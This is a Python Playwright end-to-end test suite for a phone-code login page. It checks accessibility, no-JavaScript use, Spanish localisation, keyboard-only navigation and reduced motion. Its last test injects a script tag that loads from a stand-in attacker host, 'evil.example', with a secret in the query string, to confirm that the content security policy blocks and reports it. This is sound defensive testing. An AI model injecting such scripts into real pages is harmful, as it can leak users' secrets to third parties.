"""For everyone: no JavaScript, Spanish, a small phone, a keyboard, a screen reader, any theme."""

from collections.abc import Callable

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, ViewportSize, expect

from tests.browser import screenshots
from tests.browser.site import ORDINARY, Site
from tests.browser.steps import ask_for_a_code, await_code_screen, type_code
from tests.e2e.conftest import await_condition

SMALLEST: ViewportSize = {"width": 320, "height": 568}
# WCAG 2.2 AA and everything below it, and what axe calls good practice.
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]


def violations(page: Page) -> list[str]:
    # What it finds well would be megabytes.
    results = Axe().run(page, options={"runOnly": RULES, "resultTypes": ["violations"]})
    return [
        f"{violation['id']}: {node['html']} {node['failureSummary']}"
        for violation in results.response["violations"]
        for node in violation["nodes"]
    ]


def assert_fits_a_small_phone(page: Page) -> None:
    """Nothing is cut off, and a thumb can hit every control."""
    # Asked for sizes before the style sheet is there, Chromium answers without it.
    page.wait_for_load_state()
    assert page.evaluate("document.documentElement.scrollWidth") == SMALLEST["width"]
    for control in page.locator("button:visible, input:visible, select:visible").all():
        box = control.bounding_box()
        assert box is not None
        # WCAG 2.5.8 asks for 24, thumbs for more.
        assert box["height"] >= 44, control
        assert box["width"] >= 44, control


def assert_is_for_everyone(page: Page, site: Site, screen: Callable[[Page, Site], object]) -> None:
    """By axe, in both themes and on the smallest phone; and its own content policy lets it be."""
    logged_before = len(site.log)
    screen(page, site)
    for theme in ("light", "dark"):
        page.emulate_media(color_scheme=theme)
        assert violations(page) == [], theme
    page.set_viewport_size(SMALLEST)
    assert_fits_a_small_phone(page)
    logged = site.log[logged_before:]
    assert "csp_violation" not in logged
    assert "unexpected_error" not in logged


@pytest.mark.parametrize("screen", screenshots.SCREENS, ids=lambda screen: screen.__name__)
def test_a_screen_is_for_everyone(site: Site, visit, screen):
    page = visit(site.login)
    assert_is_for_everyone(page, site, screen)


def test_without_javascript_everything_works(site: Site, visit):
    page = visit(site.login, java_script_enabled=False)
    ask_for_a_code(page)
    await_code_screen(page)
    page.get_by_role("link", name="Look again").click()
    await_code_screen(page)
    type_code(page, site.wrong_code())
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("alert")).to_contain_text("4 tries left")
    page.get_by_role("button", name="Send a new code").click()
    expect(page.get_by_text("A new code was sent.")).to_be_visible()
    code = site.newest_code()
    type_code(page, f"{code[:3]} {code[3:]}")
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("heading", name="You are logged in")).to_be_visible()
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_text("You are logged out.")).to_be_visible()


def test_a_browser_that_speaks_spanish_is_answered_in_spanish(site: Site, visit):
    page = visit(site.login, locale="es-MX")
    expect(page.locator("html")).to_have_attribute("lang", "es")
    page.get_by_label("Número de teléfono").fill(ORDINARY)
    page.get_by_role("button", name="Enviar el código").click()
    expect(page.get_by_role("heading", name="Escriba los seis dígitos")).to_be_visible()
    expect(page.get_by_text("Entregado: mire su teléfono")).to_be_visible()
    page.get_by_label("Código", exact=True).fill(site.wrong_code())
    expect(page.get_by_role("alert")).to_contain_text("Le quedan 4 intentos")
    page.get_by_label("Código", exact=True).fill(site.newest_code())
    expect(page.get_by_role("heading", name="Ya entró")).to_be_visible()


def test_the_language_is_switched_on_the_page_and_stays_switched(site: Site, visit):
    page = visit(site.login)
    page.get_by_role("link", name="Español").click()
    expect(page.get_by_role("heading", name="Entrar con WhatsApp")).to_be_visible()
    page.get_by_label("Número de teléfono").fill(ORDINARY)
    page.get_by_role("button", name="Enviar el código").click()
    expect(page.get_by_role("heading", name="Escriba los seis dígitos")).to_be_visible()
    page.get_by_role("link", name="English").click()
    await_code_screen(page)


def test_the_keyboard_alone_is_enough(site: Site, visit):
    page = visit(site.login)
    expect(page.get_by_label("Phone number")).to_be_focused()
    page.keyboard.type("2395550100")
    page.keyboard.press("Enter")
    await_code_screen(page)
    expect(page.get_by_label("Code", exact=True)).to_be_focused()
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Log in")).to_be_focused()
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Send a new code")).to_be_focused()
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    page.keyboard.type(site.newest_code())
    expect(page.get_by_role("heading", name="You are logged in")).to_be_visible()
    page.wait_for_load_state()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.get_by_text("You are logged out.")).to_be_visible()


def test_a_person_who_wants_no_motion_gets_none(site: Site, visit):
    page = visit(site.login, reduced_motion="reduce")
    ask_for_a_code(page)
    await_code_screen(page)
    moving = "getComputedStyle(document.querySelector('.dot')).animationName"
    assert page.evaluate(moving) == "none"


def test_a_broken_content_policy_is_reported(site: Site, visit):
    page = visit(site.login)
    page.evaluate(
        "document.head.append(Object.assign(document.createElement('script'),"
        " {src: 'https://evil.example/x.js?secret=1'}))"
    )
    await_condition(lambda: "csp_violation" in site.log, "the report to be logged")
    assert "https://evil.example" in site.log
    assert "secret=1" not in site.log
